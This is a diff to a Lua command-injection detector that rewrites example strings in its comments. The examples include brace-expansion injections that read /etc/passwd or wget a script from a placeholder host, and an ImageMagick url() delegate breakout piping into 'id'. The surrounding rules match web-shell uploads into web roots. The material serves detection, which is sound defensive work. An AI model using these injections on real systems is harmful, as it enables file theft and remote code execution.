@@ -616,7 +616,7 @@ local SYNTAX = {
       pattern = [=[(?:^|[\s;|&=<>(`])/[\w.\-/'"]*\w(?:''|"")\w]=] },
     -- a brace list expands to words where a command is read (the start,
     -- after a separator, in a substitution), and the first is a command
-    -- ("{cat,/etc/passwd}", "{curl,http://x.example/p}", "{l,-lh}s": a
+    -- ("{cat,/etc/passwd}", "{wget,https://x.example/a.sh}", "{l,-lh}s": a
     -- word glued to it goes into every item); after an option or in
     -- text it is a usage line's choice ("{start,stop}"), and
     -- "{heap,stack}-buffer" runs nothing
@@ -941,7 +941,7 @@ local function read_word(s, i, n)
     -- for every value, and Lua patterns leave the JIT-compiled trace)
     if quoting then
         -- (a Windows path, a drive's or a variable's,
-        -- "%systemroot%\system32\whoami.exe": cmd.exe reads no backslash
+        -- "%windir%\system32\ipconfig.exe": cmd.exe reads no backslash
         -- as an escape, and the program is its last name)
         if (byte(w, 1) == 37 or byte(w, 2) == 58)
                 and (find(w, "^%%[%w_]+%%\\") or find(w, "^%a:\\")) then
@@ -1806,8 +1806,8 @@ local function command_at(s, i, n, mode)
                             and not find(rest, "^%s+%a[%a-]*[./]") then
                         return false
                     end
-                    -- (nor a number or a flat's, "; apt 3B, buzzer
-                    -- broken": no subcommand starts with a digit)
+                    -- (nor a number or a flat's, "; apt 7C, ring
+                    -- twice": no subcommand starts with a digit)
                     if subs and find(rest, "^%s+%d%w*%f[^%w./]") then
                         return false
                     end
@@ -3509,7 +3509,7 @@ RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
 -- converter's or an exporter's output is a positional argument
 RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                       needles = { ".php", ".phtml", ".jsp", ".asp" },
-                      -- (after the input file's name too: "in.wav -f mp3 /srv/www/a.php")
+                      -- (after the input file's name too: "clip.mov -f gif /srv/www/htdocs/up.php")
                       pattern = [=[^\s*(?:[\w.-]+\.[a-z\d]{1,5}\s+)?-{1,2}[a-z][^\n]{0,200}?]=]
                           .. [=[\s["']?/[^\s'"]*?/]=]
                           .. [=[(?:www|wwwroot|webroot|htdocs|public_html|inetpub|webapps)/]=]
@@ -3550,7 +3550,7 @@ local function as_written(re)
 end
 -- ImageMagick's URL delegate (an MVG's or an SVG's "url(...)"): a URL that
 -- closes the delegate command's double quote and pipes into a command of
--- its own ("url(https://x.example/a.jpg"|id")"), run by the shell the
+-- its own ("url(https://img.example.net/a.png"|id")"), run by the shell the
 -- delegate is passed to
 RULES[#RULES + 1] = { id = "rce-command", where = NOT_PATH, needles = { "url(" },
                       pattern = [=[\burl\(\s*[^()\n"]{0,300}"\s*\|\s*[a-z][^"()\n]{0,200}"\s*\)]=],
